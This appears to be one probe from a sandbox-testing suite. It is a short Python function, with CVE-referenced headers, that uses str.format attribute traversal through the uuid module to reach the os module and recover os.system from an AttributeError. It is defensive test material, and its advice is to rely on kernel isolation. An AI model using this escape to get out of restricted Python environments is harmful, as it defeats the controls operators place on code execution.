# title: Read attributes by a format string
# tries: Lets str.format walk from an object to the module os, by attributes and keys that stand in the text, and catches the object at its end from the error about a name that is not there.
# impact: Integrity
# reference: CVE-2023-41039, CVE-2024-47532
# proof: returned
# host: run
# allowed: policy off
# advice: Count on the kernel, not on rules about Python: with isolation around the process this gains nothing.


def attempt(host):
    import uuid

    for path in ("{0.os.no_such_name}", "{0.UUID.__init__.__globals__[os].no_such_name}"):
        try:
            path.format(uuid)
        except AttributeError as error:
            if error.obj is not uuid:
                return f"{error.obj.system} by a format string"
